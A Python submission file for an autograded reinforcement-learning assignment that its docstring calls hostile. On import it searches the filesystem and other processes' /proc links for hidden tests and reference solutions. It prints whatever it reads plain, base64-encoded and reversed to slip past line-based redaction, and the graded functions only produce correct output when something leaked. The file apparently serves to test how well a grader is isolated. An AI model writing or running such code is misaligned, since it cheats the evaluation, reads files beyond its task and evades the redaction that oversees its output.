"""Hostile submission: find and print the hidden tests and the reference solutions.

Walks the filesystem (as far as the worker can see, also through other processes'
``/proc/PID/cwd`` and ``/proc/PID/root``) for ``test_*_hidden.py``, files in a ``hidden/``
folder and ``solutions/**/*.py``, and prints whatever it could read, three
ways: plain, base64 and reversed line by line (line-based redaction misses the last two).
``extract_model`` always returns a wrong answer so that its output is shown. The episode
functions are correct only when something leaked: a leak then also earns points.
"""

import base64
import os
import time

import numpy as np

SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/snap", "/boot", "/run",
        "/var/lib", "/var/cache", "/etc"}


def _interesting(dirpath, name):
    if not name.endswith(".py"):
        return False
    return (name.startswith("test_") and name.endswith("_hidden.py")) or "/hidden" in dirpath \
        or "/solutions" in dirpath


def _search(deadline):
    found = {}
    for top in ("/autograder", "/tmp", "/work", "/home", "/root", "/opt", "/srv", "/mnt", "/var", "/"):
        for dirpath, dirnames, filenames in os.walk(top):
            if time.monotonic() > deadline:
                return found
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in SKIP
                           and d not in ("site-packages", "dist-packages", "node_modules", ".git", "__pycache__")]
            for name in filenames:
                path = os.path.join(dirpath, name)
                if path not in found and _interesting(dirpath, name):
                    try:
                        with open(path, encoding="utf-8", errors="replace") as handle:
                            found[path] = handle.read()
                    except OSError:
                        pass
    return found


def _through_proc(found, deadline):
    """The same search through other processes' /proc/PID/cwd and /proc/PID/root links."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        for link in ("cwd", "root/autograder/source"):
            for dirpath, dirnames, filenames in os.walk(f"/proc/{pid}/{link}"):
                if time.monotonic() > deadline or dirpath.count("/") > 8:
                    dirnames[:] = []
                    continue
                for name in filenames:
                    path = os.path.join(dirpath, name)
                    if _interesting(dirpath, name):
                        try:
                            with open(path, encoding="utf-8", errors="replace") as handle:
                                found[path] = handle.read()
                        except OSError:
                            pass
    return found


LEAKED = _through_proc(_search(time.monotonic() + 8), time.monotonic() + 4)


def _dump():
    print(f"LEAK: could read {len(LEAKED)} grader files", flush=True)
    for path, text in sorted(LEAKED.items()):
        print(f"===== {path}\n{text}", flush=True)
        print(f"===== base64 {path}\n{base64.b64encode(text.encode()).decode()}", flush=True)
        print("===== reversed\n" + "\n".join(line[::-1] for line in text.splitlines()), flush=True)


def extract_model(env):
    _dump()
    n_states, n_actions = env.observation_space.n, env.action_space.n
    return np.zeros((n_states, n_actions, n_states)), np.zeros((n_states, n_actions)), np.zeros(n_states, dtype=bool)


def run_episode(agent, env, max_steps, seed=None):
    _dump()
    if not LEAKED:
        return [], [], []
    observation, _ = env.reset(seed=seed)
    observations, actions, rewards = [], [], []
    for _ in range(max_steps):
        action = int(agent.get_action(observation))
        next_observation, reward, terminated, truncated, _ = env.step(action)
        observations.append(int(observation))
        actions.append(action)
        rewards.append(float(reward))
        observation = next_observation
        if terminated or truncated:
            break
    return observations, actions, rewards


def evaluate_policy_mc(env, policy, n_episodes, seed):
    _dump()
    if not LEAKED:
        return -1.0, -1.0
    goal = {int(i) for i in np.flatnonzero(env.unwrapped.desc.ravel() == b"G")}
    total, successes = 0.0, 0
    for i in range(n_episodes):
        state, _ = env.reset(seed=seed + i)
        done = False
        while not done:
            state, reward, terminated, truncated, _ = env.step(int(policy[state]))
            total += float(reward)
            done = terminated or truncated
        successes += int(terminated and state in goal)
    return total / n_episodes, successes / n_episodes
